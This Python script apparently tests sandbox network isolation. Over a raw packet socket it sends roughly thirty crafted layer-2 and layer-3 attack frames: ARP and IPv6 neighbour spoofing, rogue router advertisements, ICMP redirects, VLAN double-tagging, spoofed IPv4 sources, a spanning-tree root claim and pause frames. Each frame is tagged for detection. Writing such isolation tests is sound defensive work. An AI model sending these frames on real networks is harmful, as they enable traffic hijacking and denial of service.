"""Frames that somebody may send into a LAN to fool what is on it or beyond it. It runs in a host: standard library only.

The program's first argument is JSON: the addresses `mine`, `neighbour`, `gateway`, `stranger` (in another sandbox) and
`machine` (of the node), of IPv6 `mine6`, `neighbour6` and `stranger6`, and the MAC addresses `router` (the LAN's bridge) and
`own`. Each frame carries `MARK` and its number, so that whoever hears it knows it.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time

MARK = b"explorer-layer-2-attack"
EVERYBODY = "ff:ff:ff:ff:ff:ff"
ALL_NODES = "33:33:00:00:00:01"


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def ip(text):
    return socket.inet_pton(socket.AF_INET6 if ":" in text else socket.AF_INET, text)


def ethernet(to, source, kind, body):
    return mac(to) + mac(source) + struct.pack(">H", kind) + body


def arp(operation, source, source_ip, target, target_ip):
    return struct.pack(">HHBBH", 1, 0x800, 6, 4, operation) + mac(source) + ip(source_ip) + mac(target) + ip(target_ip)


def checksum(data):
    total = sum(struct.unpack(f">{(len(data) + 1) // 2}H", data + bytes(len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4(source, target, protocol, body, ttl=64):
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 7, 0, ttl, protocol, 0, ip(source), ip(target))
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + body


def udp(port, body):
    return struct.pack(">HHHH", 4000, port, 8 + len(body), 0) + body


def icmp6(source, target, kind, code, body):
    message = struct.pack(">BBH", kind, code, 0) + body
    told = checksum(ip(source) + ip(target) + struct.pack(">IHBB", len(message), 0, 0, 58) + message)
    message = message[:2] + struct.pack(">H", told) + message[4:]
    return struct.pack(">IHBB", 6 << 28, len(message), 58, 255) + ip(source) + ip(target) + message


def frames(at):
    """Name of each frame: its bytes, without the mark."""
    mine, neighbour, gateway = at["mine"], at["neighbour"], at["gateway"]
    own, router, stranger = at["own"], at["router"], at["stranger"]
    bpdu = mac("01:80:c2:00:00:00") + mac(own) + struct.pack(">H", 38) + b"\x42\x42\x03" + bytes(35)
    link, mine6, neighbour6, stranger6 = "fe80::bad", at["mine6"], at["neighbour6"], at["stranger6"]
    i_have = b"\x02\x01" + mac(own)  # the option with the sender's MAC address
    prefix = struct.pack(">BBBBIII", 3, 4, 64, 0xC0, 9999, 9999, 0) + ip("2001:db8:bad::")
    return {
        "ARP: the gateway is me": ethernet(EVERYBODY, own, 0x806, arp(2, own, gateway, EVERYBODY, gateway)),
        "ARP: a neighbour is me, to the gateway": ethernet(router, own, 0x806, arp(2, own, neighbour, router, gateway)),
        "ARP: another sandbox's host is me": ethernet(EVERYBODY, own, 0x806, arp(2, own, stranger, EVERYBODY, gateway)),
        "ARP: who is another sandbox's host": ethernet(EVERYBODY, own, 0x806, arp(1, own, mine, "00:00:00:00:00:00", stranger)),
        "the bridge's own MAC address as mine": ethernet(EVERYBODY, router, 0x806, arp(2, router, gateway, EVERYBODY, gateway)),
        "VLAN tag": ethernet(EVERYBODY, own, 0x8100, struct.pack(">HH", 2, 0x88B5)),
        "two VLAN tags": ethernet(EVERYBODY, own, 0x88A8, struct.pack(">HHHH", 1, 0x8100, 2, 0x88B5)),
        "IPv6 router advertisement": ethernet(
            ALL_NODES, own, 0x86DD, icmp6(link, "ff02::1", 134, 0, struct.pack(">BBHII", 64, 0, 9000, 0, 0) + prefix)
        ),
        "IPv6 redirect": ethernet(
            ALL_NODES, own, 0x86DD, icmp6(link, "ff02::1", 137, 0, bytes(4) + ip(link) + ip("2001:db8::1"))
        ),
        "IPv6: every address is taken (DAD)": ethernet(
            ALL_NODES, own, 0x86DD, icmp6(link, "ff02::1", 136, 0, struct.pack(">I", 0x20000000) + ip("fe80::1"))
        ),
        "IPv6 router advertisement: a route to everything, a name server": ethernet(
            ALL_NODES,
            own,
            0x86DD,
            icmp6(
                *(link, "ff02::1", 134, 0),
                struct.pack(">BBHII", 64, 0xC0, 9000, 0, 0)
                + struct.pack(">BBBBI", 24, 1, 0, 8, 9999)
                + struct.pack(">BBHI", 25, 3, 0, 9999)
                + ip(link),
            ),
        ),
        "IPv6: a neighbour is me": ethernet(
            ALL_NODES, own, 0x86DD, icmp6(neighbour6, "ff02::1", 136, 0, b"\x20\0\0\0" + ip(neighbour6) + i_have)
        ),
        "IPv6: another sandbox's host is me": ethernet(
            ALL_NODES, own, 0x86DD, icmp6(stranger6, "ff02::1", 136, 0, b"\x20\0\0\0" + ip(stranger6) + i_have)
        ),
        "IPv6: who is another sandbox's host": ethernet(
            ALL_NODES, own, 0x86DD, icmp6(mine6, "ff02::1", 135, 0, bytes(4) + ip(stranger6) + i_have)
        ),
        "IPv6 to another sandbox, by the bridge": ethernet(router, own, 0x86DD, icmp6(mine6, stranger6, 128, 0, b"\0\7\0\1")),
        "IPv6: who listens to which group (MLD query)": ethernet(
            ALL_NODES, own, 0x86DD, icmp6(link, "ff02::1", 130, 0, b"\0\1\0\0" + bytes(16))
        ),
        "IPv4 from another sandbox's address, to the gateway": ethernet(
            router, own, 0x800, ipv4(stranger, gateway, 17, udp(53, MARK))
        ),
        "IPv4 from the gateway's own address": ethernet(router, own, 0x800, ipv4(gateway, gateway, 17, udp(53, MARK))),
        "IPv4 from 127.0.0.1": ethernet(router, own, 0x800, ipv4("127.0.0.1", "127.0.0.1", 17, udp(53, MARK))),
        "IPv4 to another sandbox, by the gateway": ethernet(router, own, 0x800, ipv4(mine, stranger, 17, udp(80, MARK))),
        "IPv4 to the machine under it, by the gateway": ethernet(
            router, own, 0x800, ipv4(mine, at["machine"], 17, udp(80, MARK))
        ),
        "ICMP redirect": ethernet(
            router, own, 0x800, ipv4(gateway, mine, 1, b"\x05\x01" + bytes(2) + ip(mine) + ipv4(mine, stranger, 17, b""))
        ),
        "IGMP query": ethernet("01:00:5e:00:00:01", own, 0x800, ipv4(mine, "224.0.0.1", 2, b"\x11\x64" + bytes(6), 1)),
        "multicast to everybody": ethernet("01:00:5e:00:00:01", own, 0x800, ipv4(mine, "224.0.0.1", 17, udp(5353, MARK), 64)),
        "spanning tree: I am the root": bpdu,
        "a pause frame": ethernet("01:80:c2:00:00:01", own, 0x8808, b"\x00\x01\xff\xff"),
        "LACP": ethernet("01:80:c2:00:00:02", own, 0x8809, b"\x01\x01"),
        "LLDP": ethernet("01:80:c2:00:00:0e", own, 0x88CC, b"\x02\x07\x04" + mac(own) + b"\x04\x02\x07a\x06\x02\x00\x78"),
    }


def main():
    at = json.loads(sys.argv[1])
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    link.bind(("eth0", 0))
    made = frames(at)
    for _ in range(3):
        for number, frame in enumerate(made.values()):
            link.send(frame + MARK + struct.pack(">B", number))
            time.sleep(0.005)
    sys.stdout.write(json.dumps(list(made)))


if __name__ == "__main__":
    main()
